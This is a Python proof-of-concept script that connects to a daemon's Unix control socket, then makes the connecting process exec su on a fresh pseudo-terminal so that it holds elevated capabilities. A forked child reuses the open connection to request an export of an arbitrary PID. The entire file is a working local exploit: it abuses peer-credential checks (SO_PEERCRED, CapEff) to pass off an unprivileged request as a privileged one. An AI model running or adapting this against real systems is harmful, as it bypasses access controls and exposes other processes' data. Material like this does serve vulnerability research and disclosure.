#!/usr/bin/env python3
"""Connect to a control socket, then run a setuid program in the same process.

usage: exec-after-connect.py SOCK PID PROGRAM [ARGS...]

The process that connects (the pid SO_PEERCRED records) forks a child that
keeps the connection, then makes a fresh terminal its own and execs
PROGRAM (su, which then waits for a password with every capability). Once
PROGRAM runs, the child asks the daemon to export PID and prints the
answer: "reply TYPE TEXT" (TYPE 101 an export reply, 6 an error).
"""
import fcntl
import os
import socket
import struct
import sys
import termios
import time

sock_path, pid = sys.argv[1], int(sys.argv[2])
program = sys.argv[3:]


def varint(n):
    out = b""
    while True:
        b = n & 0x7F
        n >>= 7
        out += bytes([b | (0x80 if n else 0)])
        if not n:
            return out


def recv_exactly(s, n):
    buf = b""
    while len(buf) < n:
        chunk = s.recv(n - len(buf))
        if not chunk:
            raise OSError("closed")
        buf += chunk
    return buf


def cap_eff(p):
    with open("/proc/%d/status" % p) as f:
        for line in f:
            if line.startswith("CapEff:"):
                return int(line.split()[1], 16)
    return 0


s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.connect(sock_path)
connector = os.getpid()
child = os.fork()
if child == 0:
    # Wait until the connecting process runs the setuid program.
    for _ in range(500):
        if cap_eff(connector) != 0:
            break
        time.sleep(0.01)
    print("connector %d has CapEff %x" % (connector, cap_eff(connector)), flush=True)
    msg = b"\x08" + varint(pid)  # ExportRequest.pid = PID
    s.sendall(struct.pack(">HHII", 100, 0, len(msg), 0) + msg)
    print("sent", flush=True)
    ftype, _, mlen, dlen = struct.unpack(">HHII", recv_exactly(s, 12))
    body = recv_exactly(s, mlen + dlen)
    text = "".join(c if c.isprintable() else "?" for c in body.decode(errors="replace"))
    print("reply %d %s" % (ftype, text), flush=True)
    os._exit(0)
s.close()
# A terminal of its own, so that su waits at its password prompt.
master, slave = os.openpty()
# The master stays open across the exec: closed, su would read EOF at once.
os.set_inheritable(master, True)
os.setsid()
fcntl.ioctl(slave, termios.TIOCSCTTY, 0)
for fd in (0, 1, 2):
    os.dup2(slave, fd)
os.close(slave)
os.execvp(program[0], program)
